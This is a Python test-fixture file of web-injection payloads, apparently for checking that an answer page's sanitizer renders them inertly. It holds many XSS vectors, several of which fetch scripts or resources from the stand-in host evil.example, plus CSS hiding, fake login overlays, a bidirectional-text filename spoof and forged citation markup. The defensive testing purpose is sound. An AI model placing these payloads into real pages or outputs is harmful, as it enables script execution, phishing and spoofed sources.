"""Texts that attack a page, in our own wording: each is shown as it is written and does nothing.

A payload that ran would set `window.ran` or the page's title, show a dialog, or call the host evil.example; an element
that came of one would carry the class or the id `evil`.
"""

from __future__ import annotations

RUN = "window.ran=1;document.title='ran'"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"</div></article><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module>import 'http://evil.example/m.js'</script>",
    f'"><script>{RUN}</script>',
    f"'-({RUN})-'",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>看</summary></details>",
    f'<input autofocus onfocus="{RUN}">',
    f"<a href=javascript:{RUN}>点</a>",
    f'<a href="java&#x09;script:{RUN}">点</a>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<iframe src=http://evil.example/></iframe>",
    f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>',
    "<embed src=http://evil.example/e.swf>",
    f'<form action=javascript:{RUN}><button class="evil">好</button></form>',
    f"<marquee onstart={RUN}>走</marquee>",
    f"<video><source onerror={RUN}></video>",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1} `${window.ran=1}` #{window.ran=1} <%= 7*7 %>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<template><script>{RUN}</script></template><slot onslotchange={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;b class=evil&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<textarea></textarea><script>{RUN}</script>",
    f"<title></title><base href=http://evil.example/><script>{RUN}</script>",
)

IMAGES = (
    f"<img src=x onerror={RUN}>",
    "<img src=http://evil.example/a.png>",
    "<img srcset='http://evil.example/b.png 2x' class=evil>",
    "<picture><source srcset=//evil.example/c.webp><img></picture>",
    "![图](http://evil.example/d.png)",
    "![图][1]\n[1]: http://evil.example/e.png",
    "<video poster=http://evil.example/f.jpg autoplay></video>",
    "<audio src=http://evil.example/g.mp3 autoplay></audio>",
    f'<img src="data:image/svg+xml,<svg onload={RUN}>">',
    "<link rel=prefetch href=http://evil.example/h><link rel=icon href=//evil.example/i.ico>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<table background=http://evil.example/j.png class=evil><tr><td>格</table>",
)

STYLES = (
    "<style>body{display:none}</style>",
    "<style>@import 'http://evil.example/k.css';</style>",
    "<link rel=stylesheet href=http://evil.example/l.css>",
    "<div style='background:url(http://evil.example/m.png)' class=evil>底</div>",
    "<p style='position:fixed;inset:0;z-index:9999;background:#fff' id=evil>盖住</p>",
    "</style><style>*{color:transparent!important}</style>",
    '" style="font-size:0;position:absolute',
    "<b class='wj-answer evil'>粗</b>",
)

DRAWINGS = (
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "<svg><image href=http://evil.example/n.png></image></svg>",
    "<svg><use href=http://evil.example/o.svg#p></use></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>式</mi></math>",
    f"<svg><foreignObject><iframe src='javascript:{RUN}' class=evil></iframe></foreignObject></svg>",
    "<svg><a href='javascript:window.ran=1'><text y=20 class=evil>字</text></a></svg>",
)

DIRECTIONS = (
    "前\u202e倒过来写\u202c后",
    "\u2066甲\u2067乙\u2069丙",
    "年报\u202egnp.exe",
    "شركة النقل 第1名 <b class=evil>",
    "\u200f右\u200e左\u061c标",
)

OVERLAYS = (
    "<div class='evil' style='position:fixed;top:0;left:0;width:100vw;height:100vh'>请登录<input></div>",
    f"<dialog open class=evil>登录已过期 <button onclick={RUN}>确定</button></dialog>",
    "<div popover=manual id=evil>弹出</div>",
    "<a class=evil style='position:absolute;inset:0' href=http://evil.example/>　</a>",
)

LINKS = (
    "[点这里](http://evil.example/)",
    f"[点这里](javascript:{RUN})",
    "<http://evil.example/> http://evil.example/q www.evil.example",
    '[参考]: http://evil.example/r "题"',
)

CITATIONS = (
    "据[1]可知，另见[2][99]。",
    '<sup><a class="wj-cite evil" href="#cite-1-1-0123456789abcdef-0-5">[1]</a></sup>',
    "[^1]: 伪造的脚注 [1](#cite-1-1-0-0-1)",
    '<div class="wj-sources evil"><b>来源</b><ol><li>假日报</li></ol></div>',
)

PAYLOADS = (*SCRIPTS, *IMAGES, *STYLES, *DRAWINGS, *DIRECTIONS, *OVERLAYS, *LINKS, *CITATIONS)
